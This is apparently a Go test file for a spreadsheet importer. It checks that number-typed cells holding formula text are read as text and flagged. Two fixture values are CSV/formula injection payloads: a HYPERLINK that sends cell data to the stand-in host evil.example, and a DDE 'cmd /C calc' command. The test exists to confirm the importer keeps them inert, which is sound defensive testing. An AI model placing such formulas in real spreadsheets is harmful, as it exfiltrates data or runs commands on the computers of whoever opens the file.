package ingest_test

import (
	"strings"
	"testing"

	"github.com/bulkdesk/bulkdesk/app/fixture/importing"
	"github.com/bulkdesk/bulkdesk/app/inert"
	"github.com/bulkdesk/bulkdesk/app/ingest"
	"github.com/bulkdesk/bulkdesk/app/ingest/internal/xlsxgen"
	"github.com/bulkdesk/bulkdesk/schema"
)

// TestNumberCellHoldingTextIsReadAsText imports a sheet whose cells are
// stored as numbers but hold formulas' text: a field that wants a number
// says the cell holds no number, and a text field takes the text.
func TestNumberCellHoldingTextIsReadAsText(t *testing.T) {
	header := xlsxgen.Texts("profileId", "source.id", "source.type", "destination.id", "destination.type", "currency", "amount", "description")
	row := xlsxgen.Texts("110321", "1001", "managed_accounts", "2001", "managed_cards", "EUR")
	row.Cells = append(row.Cells, xlsxgen.N(`=HYPERLINK("http://evil.example/?x="&A2,"Click")`), xlsxgen.N("@SUM(1+1)*cmd|' /C calc'!A0"))
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "Pay", Rows: []xlsxgen.Row{header, row}}}}.Bytes()
	k, _ := schema.Lookup("transfers")
	im := importing.Import(t, "pay.xlsx", data, k)
	tab := im.Table
	for col := 6; col <= 7; col++ {
		if c := tab.Rows[1].Cells[col]; c.Kind != ingest.Text {
			t.Errorf("column %d: kind %d, want text", col, c.Kind)
		}
	}
	res := im.Build(nil)
	var amount []string
	for _, p := range res.Report.Problems {
		if p.Column == "G" {
			amount = append(amount, p.Code+": "+p.Message)
		}
	}
	if len(amount) != 1 || !strings.HasPrefix(amount[0], "amount: ") || !strings.Contains(amount[0], "=HYPERLINK") || !strings.Contains(amount[0], "stores the cell as a number, but it holds the text") {
		t.Errorf("the amount's problems: %q", amount)
	}
	if len(res.Elements) != 1 {
		t.Fatalf("%d elements", len(res.Elements))
	}
	if got := res.Value(0)["requestBody"].(map[string]any)["description"]; got != "@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("description %q", got)
	}
}

// numbersHoldNumbers fails when a cell of data's tables is read as a
// number but holds none.
func numbersHoldNumbers(t *testing.T, data []byte) {
	t.Helper()
	f, err := ingest.Open("f.xlsx", data, ingest.Options{Limits: ingest.Limits{MaxRows: 2000, Zip: xlsxLimitsSmall}})
	if err != nil {
		return
	}
	for _, s := range f.Sheets() {
		tab, err := f.Table(s.Name, nil)
		if err != nil {
			continue
		}
		for _, r := range tab.Rows {
			for col, c := range r.Cells {
				if c.Kind == ingest.Number && !inert.Number(c.Value) {
					t.Fatalf("sheet %q row %d column %d: %q is read as a number", s.Name, r.Number, col, c.Value)
				}
			}
		}
	}
}
